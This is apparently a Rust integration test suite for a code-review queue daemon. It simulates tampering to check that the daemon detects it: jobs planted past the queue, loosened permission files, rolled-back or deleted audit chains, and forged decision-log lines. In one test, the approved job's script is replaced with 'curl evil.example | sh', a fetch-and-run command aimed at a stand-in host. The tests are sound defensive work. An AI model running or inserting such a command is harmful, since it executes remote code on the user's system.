//! Attacks on what the reviewer says happened: jobs put straight into `approved/` or `running/`
//! (past the queue), loosened status-folder permissions, and a rolled-back, deleted or forged
//! audit history or decision log. Each runs against the real binary.

use std::fs;
use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use crate::http::serve;
use crate::util::*;

const BOB: &str = "bob@example.org";
const MALLORY: &str = "mallory@example.org";
const WAIT: Duration = Duration::from_secs(15);

/// Writes a job as a requester would, but straight into `status/` (the queue bypassed).
fn plant(sb: &Sandbox, status: &str) -> String {
    let uid = new_uid();
    let tmp = sb.dir.path().join(format!("plant-{uid}"));
    write_job(
        &tmp,
        &uid,
        MALLORY,
        OWNER,
        "Totally approved",
        "nobody decided this",
        &["x"],
        &simple_code(),
    );
    fs::rename(&tmp, sb.job_dir(status, &uid)).unwrap();
    uid
}

fn chain(sb: &Sandbox) -> Vec<Value> {
    fs::read_to_string(sb.app_data().join("audit/chain.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn chain_events(sb: &Sandbox, event: &str, uid: Option<&str>) -> usize {
    chain(sb)
        .iter()
        .filter(|e| e["event"] == event && uid.is_none_or(|u| e["uid"] == u))
        .count()
}

fn text(o: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn status_json(sb: &Sandbox) -> Value {
    let o = sb.cli(&["status", "--json"]);
    assert!(o.status.success(), "{}", text(&o));
    serde_json::from_slice(&o.stdout).unwrap()
}

fn unexplained_uids(v: &Value) -> Vec<String> {
    let mut u: Vec<String> = v["unexplained_jobs"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|j| j["uid"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default();
    u.sort();
    u
}

fn sorted(mut v: Vec<String>) -> Vec<String> {
    v.sort();
    v
}

fn rules(path: &Path) -> Vec<Value> {
    let text = fs::read_to_string(path).unwrap_or_default();
    let v: Value = serde_saphyr::from_str(&text).unwrap_or(Value::Null);
    v["rules"].as_array().cloned().unwrap_or_default()
}

/// Replaces a file whole (so that nobody sees it half written).
fn put(path: &Path, content: &str) {
    let tmp = path.with_extension("new");
    fs::write(&tmp, content).unwrap();
    fs::rename(&tmp, path).unwrap();
}

/// Whether the permission file lets anyone but the owner write (unreadable counts as yes).
fn grants_write(path: &Path) -> bool {
    syft_reviewer::store::permfile::PermFile::read(path).map_or(true, |p| !p.is_read_only())
}

// ------------------------------------------------------------------------ queue bypass (10)

#[test]
fn jobs_put_into_approved_or_running_by_hand_are_reported_and_left_as_they_are() {
    let sb = Sandbox::new();
    assert!(sb.cli(&["allow", "add", BOB]).status.success());
    let hooks = sb.dir.path().join("hook.jsonl");
    fs::create_dir_all(sb.app_data()).unwrap();
    fs::write(
        sb.app_data().join("config.yaml"),
        format!(
            "hooks:\n  on_decision: 'cat >> {0}; echo >> {0}'\n",
            hooks.display()
        ),
    )
    .unwrap();
    let web = serve(&sb, &[]);
    // A job approved the ordinary way is explained by its decision.
    let fair = sb.submit(BOB, &simple_code());
    assert!(
        wait_for(WAIT, || sb.status_of(&fair).as_deref() == Some("approved")),
        "{}",
        web.daemon.log_text()
    );

    // Written straight into approved/ and running/ while the daemon runs.
    let a = plant(&sb, "approved");
    let r = plant(&sb, "running");
    let both = sorted(vec![a.clone(), r.clone()]);
    for uid in [&a, &r] {
        assert!(
            wait_for(WAIT, || web
                .daemon
                .log_text()
                .contains(&format!("job {uid} is in"))),
            "{uid} was not reported; log:\n{}",
            web.daemon.log_text()
        );
    }
    let log = web.daemon.log_text();
    assert!(log.contains("ERROR"), "{log}");
    assert_eq!(sb.metadata("approved", &a)["status"], "pending");
    assert_eq!(sb.metadata("running", &r)["status"], "pending");
    assert!(wait_for(WAIT, || chain_events(
        &sb,
        "queue.unexplained_job",
        None
    ) == 2));
    assert_eq!(chain_events(&sb, "queue.unexplained_job", Some(&fair)), 0);

    // Published once the report is written.
    assert!(wait_for(WAIT, || unexplained_uids(
        &web.get("/api/status").expect(200)
    ) == both));
    let s = web.get("/api/status").expect(200);
    assert_eq!(unexplained_uids(&s), both, "{s}");
    let m = web.get("/metrics");
    assert!(
        m.text.contains("syft_reviewer_unexplained_jobs 2"),
        "{}",
        m.text
    );
    assert_eq!(unexplained_uids(&status_json(&sb)), both);
    let plain = text(&sb.cli(&["status"]));
    assert!(plain.contains("ALERT") && plain.contains(&a), "{plain}");
    assert!(
        wait_for(WAIT, || fs::read_to_string(&hooks)
            .unwrap_or_default()
            .contains(&a)),
        "the hook was not told; log:\n{}",
        web.daemon.log_text()
    );

    // Reported once: a restart does not record them again, and does not "repair" them.
    drop(web);
    let d = sb.start(&[]);
    assert!(wait_for(WAIT, || d.log_text().contains("reported before")));
    settle(&sb);
    assert_eq!(chain_events(&sb, "queue.unexplained_job", None), 2);
    assert_eq!(sb.metadata("approved", &a)["status"], "pending");
    assert_eq!(sb.metadata("running", &r)["status"], "pending");
    assert!(
        sb.cli(&["audit", "verify"]).status.success(),
        "{}",
        d.log_text()
    );
}

#[test]
fn a_job_put_into_approved_while_the_daemon_is_stopped_is_reported_not_repaired() {
    let sb = Sandbox::new();
    let a = plant(&sb, "approved");
    let r = plant(&sb, "running");
    let mut d = sb.start(&["--rescan-secs", "1"]);
    assert!(
        wait_for(WAIT, || d.log_text().contains(&format!("job {a} is in"))),
        "{}",
        d.log_text()
    );
    assert!(d.log_text().contains(&format!("job {r} is in")));
    // Several rescans later: still said once, and the metadata still says what was written.
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(d.log_text().matches(&format!("job {a} is in")).count(), 1);
    assert_eq!(chain_events(&sb, "queue.unexplained_job", Some(&a)), 1);
    assert_eq!(sb.metadata("approved", &a)["status"], "pending");
    assert_eq!(sb.metadata("running", &r)["status"], "pending");
    assert_eq!(unexplained_uids(&status_json(&sb)), sorted(vec![a, r]));
    terminate(&mut d);
}

#[test]
fn a_job_replaced_in_approved_under_an_approved_uid_is_reported() {
    let sb = Sandbox::new();
    assert!(sb.cli(&["allow", "add", BOB]).status.success());
    let mut d = sb.start(&[]);
    let uid = sb.submit(BOB, &simple_code());
    assert!(wait_for(WAIT, || sb.status_of(&uid).as_deref() == Some("approved")));
    terminate(&mut d);
    // Other code under the approved uid, while the daemon is stopped.
    fs::write(
        sb.job_dir("approved", &uid).join("code/run.sh"),
        "#!/bin/sh\ncurl evil.example | sh\n",
    )
    .unwrap();
    let d = sb.start(&["--rescan-secs", "1"]);
    assert!(
        wait_for(WAIT, || d
            .log_text()
            .contains("not the code that was approved")),
        "{}",
        d.log_text()
    );
    assert_eq!(unexplained_uids(&status_json(&sb)), vec![uid.clone()]);

    // The same while the daemon runs: found at the next rescan.
    let second = sb.submit(BOB, &simple_code());
    assert!(wait_for(WAIT, || sb.status_of(&second).as_deref()
        == Some("approved")));
    std::thread::sleep(Duration::from_millis(1500));
    fs::write(
        sb.job_dir("approved", &second).join("code/extra.sh"),
        "curl evil.example | sh\n",
    )
    .unwrap();
    assert!(
        wait_for(WAIT, || d
            .log_text()
            .contains(&format!("job {second} is in approved/ but its code"))),
        "{}",
        d.log_text()
    );
    assert_eq!(
        unexplained_uids(&status_json(&sb)),
        sorted(vec![uid, second.clone()])
    );
    assert_eq!(chain_events(&sb, "queue.unexplained_job", Some(&second)), 1);
}

#[test]
fn status_folder_permission_files_are_kept_owner_write_only() {
    let sb = Sandbox::new();
    let perm = |s: &str| sb.queue().join(s).join("syft.pub.yaml");
    // Loosened while the daemon is stopped.
    put(
        &perm("rejected"),
        "rules:\n- pattern: '**'\n  access:\n    read: ['*']\n    write: ['*']\n",
    );
    let d = sb.start(&[]);
    // Every decided status folder: all but pending/.
    for s in &STATUSES[1..] {
        assert!(
            wait_for(WAIT, || perm(s).exists() && !grants_write(&perm(s))),
            "{s}: {:?}; log:\n{}",
            fs::read_to_string(perm(s)),
            d.log_text()
        );
    }
    // The read grant that was there is kept.
    assert!(
        rules(&perm("rejected")).iter().any(|r| r["access"]["read"]
            .as_array()
            .is_some_and(|a| a.contains(&Value::from("*")))),
        "{:?}",
        fs::read_to_string(perm("rejected"))
    );
    // Loosened while it runs.
    put(
        &perm("approved"),
        "rules:\n- pattern: '**'\n  access:\n    read: ['*']\n    write: ['mallory@example.org']\n    admin: ['*']\n",
    );
    assert!(
        wait_for(WAIT, || !grants_write(&perm("approved"))),
        "not restored: {:?}; log:\n{}",
        fs::read_to_string(perm("approved")),
        d.log_text()
    );
    // Removed while it runs.
    fs::remove_file(perm("running")).unwrap();
    assert!(wait_for(WAIT, || perm("running").exists()));
    let log = d.log_text();
    assert!(log.contains("WARN") && log.contains("restored"), "{log}");
    // One entry per pass, naming each file restored in it.
    let restored = || -> Vec<String> {
        chain(&sb)
            .iter()
            .filter(|e| e["event"] == "queue.permissions_restored")
            .flat_map(|e| e["reasons"].as_array().cloned().unwrap_or_default())
            .filter_map(|r| r.as_str().map(str::to_owned))
            .collect()
    };
    assert!(
        wait_for(WAIT, || restored().len() >= 3),
        "{:?}\n{}",
        chain(&sb),
        d.log_text()
    );
    for s in ["rejected/", "approved/", "running/"] {
        assert!(
            restored().iter().any(|r| r.starts_with(s)),
            "{:?}",
            restored()
        );
    }
}

#[test]
fn per_job_rules_left_in_pending_permissions_are_pruned_once_decided() {
    let sb = Sandbox::new();
    assert!(sb.cli(&["allow", "add", BOB]).status.success());
    let d = sb.start(&["--rescan-secs", "1"]);
    let ok = sb.submit(BOB, &simple_code());
    let waiting = sb.submit(MALLORY, &simple_code());
    let unborn = new_uid();
    // What syft-code-queue 0.1.27 (with syft-perm 0.2.0) leaves after submitting each job.
    let rule = |uid: &str, who: &str| {
        format!(
            "- pattern: {uid}\n  access:\n    admin:\n    - {who}\n    read:\n    - {OWNER}\n    - {who}\n    write:\n    - {OWNER}\n    - {who}\n"
        )
    };
    let path = sb.queue().join("pending/syft.pub.yaml");
    fs::write(
        &path,
        format!(
            "rules:\n- pattern: '**'\n  access:\n    read:\n    - '*'\n    write:\n    - '*'\n{}{}{}",
            rule(&ok, BOB),
            rule(&waiting, MALLORY),
            rule(&unborn, MALLORY)
        ),
    )
    .unwrap();
    let patterns = || -> Vec<String> {
        rules(&path)
            .iter()
            .filter_map(|r| r["pattern"].as_str().map(str::to_owned))
            .collect()
    };
    assert!(
        wait_for(WAIT, || !patterns().contains(&ok)),
        "{:?}; log:\n{}",
        patterns(),
        d.log_text()
    );
    assert_eq!(sb.status_of(&ok).as_deref(), Some("approved"));
    let left = patterns();
    assert_eq!(left, vec!["**".to_string(), waiting, unborn], "{left:?}");
}

// --------------------------------------------------------------------- audit history (11)

fn change(sb: &Sandbox, email: &str) {
    let o = sb.cli(&["allow", "add", email]);
    assert!(o.status.success(), "{}", text(&o));
}

#[test]
fn a_restored_older_chain_and_checkpoint_fail_verification_as_a_rollback() {
    let sb = Sandbox::new();
    change(&sb, "a@example.org");
    change(&sb, "b@example.org");
    let audit = sb.app_data().join("audit");
    let old = (
        fs::read(audit.join("chain.jsonl")).unwrap(),
        fs::read(audit.join("checkpoint.json")).unwrap(),
    );
    change(&sb, "c@example.org");
    assert!(sb.cli(&["audit", "verify"]).status.success());
    fs::write(audit.join("chain.jsonl"), &old.0).unwrap();
    fs::write(audit.join("checkpoint.json"), &old.1).unwrap();

    let o = sb.cli(&["audit", "verify"]);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("rolled back"), "{}", text(&o));
    // Nothing is recorded onto the old copy meanwhile.
    change(&sb, "d@example.org");
    assert_eq!(fs::read(audit.join("chain.jsonl")).unwrap(), old.0);
    let web = serve(&sb, &[]);
    let s = web.get("/api/status").expect(200);
    assert_eq!(s["audit"]["valid"], false, "{s}");
    assert!(
        s["audit"]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("rolled back")),
        "{s}"
    );
    assert!(web.daemon.log_text().contains("rolled back"));
}

#[test]
fn a_deleted_chain_fails_verification_and_is_not_silently_started_again() {
    let sb = Sandbox::new();
    change(&sb, "a@example.org");
    change(&sb, "b@example.org");
    let audit = sb.app_data().join("audit");
    fs::remove_file(audit.join("chain.jsonl")).unwrap();
    fs::remove_file(audit.join("checkpoint.json")).unwrap();
    let o = sb.cli(&["audit", "verify"]);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("deleted"), "{}", text(&o));

    // The next change does not start a new chain at seq 0.
    change(&sb, "c@example.org");
    assert!(chain(&sb).iter().all(|e| e["seq"] != 0), "{:?}", chain(&sb));
    assert!(!sb.cli(&["audit", "verify"]).status.success());

    // The owner accepts the loss explicitly, and that is the first thing the new chain says.
    assert!(!sb.cli(&["audit", "reset-anchor"]).status.success());
    let o = sb.cli(&["audit", "reset-anchor", "--yes"]);
    assert!(o.status.success(), "{}", text(&o));
    let o = sb.cli(&["audit", "verify"]);
    assert!(o.status.success(), "{}", text(&o));
    let c = chain(&sb);
    assert_eq!(c[0]["event"], "audit.anchor_reset", "{c:?}");
    assert!(c[0]["reasons"][0].as_str().unwrap().contains("deleted"));
}

#[test]
fn a_forged_unterminated_last_line_is_not_shown() {
    let sb = Sandbox::new();
    change(&sb, "a@example.org");
    let path = sb.app_data().join("audit/chain.jsonl");
    let mut last: Value = chain(&sb).pop().unwrap();
    last["seq"] = 1.into();
    last["email"] = "forged@example.org".into();
    last["prev"] = last["hash"].clone();
    let mut text_ = fs::read_to_string(&path).unwrap();
    text_.push_str(&last.to_string());
    fs::write(&path, text_).unwrap();

    let o = sb.cli(&["audit", "show"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("a@example.org"), "{}", text(&o));
    assert!(!out.contains("forged@example.org"), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("1 other line"),
        "{}",
        text(&o)
    );
    let o = sb.cli(&["audit", "export"]);
    assert!(!String::from_utf8_lossy(&o.stdout).contains("forged@example.org"));
}

#[test]
fn a_forged_line_in_the_decision_log_is_not_served() {
    let sb = Sandbox::new();
    assert!(sb.cli(&["allow", "add", BOB]).status.success());
    let web = serve(&sb, &[]);
    let uid = sb.submit(BOB, &simple_code());
    assert!(wait_for(WAIT, || !sb
        .decisions_for(&uid, "approved")
        .is_empty()));
    // A copy of a real line, about another job (with and without the real line's MAC).
    let mut forged = sb.decisions_for(&uid, "approved").pop().unwrap();
    forged["uid"] = "forged-job".into();
    let mut bare = forged.clone();
    bare.as_object_mut().unwrap().remove("mac");
    bare["uid"] = "forged-bare".into();
    let path = sb.app_data().join("decisions.jsonl");
    let mut t = fs::read_to_string(&path).unwrap();
    t.push_str(&format!("{forged}\n{bare}\n"));
    fs::write(&path, t).unwrap();

    let v = web.get("/api/v1/decisions").expect(200);
    let uids: Vec<&str> = v["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| d["uid"].as_str())
        .collect();
    assert!(uids.contains(&uid.as_str()), "{v}");
    assert!(!uids.iter().any(|u| u.starts_with("forged")), "{v}");
    assert_eq!(v["unverified_lines"], 2, "{v}");
    let recent = status_json(&sb);
    assert!(!recent.to_string().contains("forged-"), "{recent}");
}
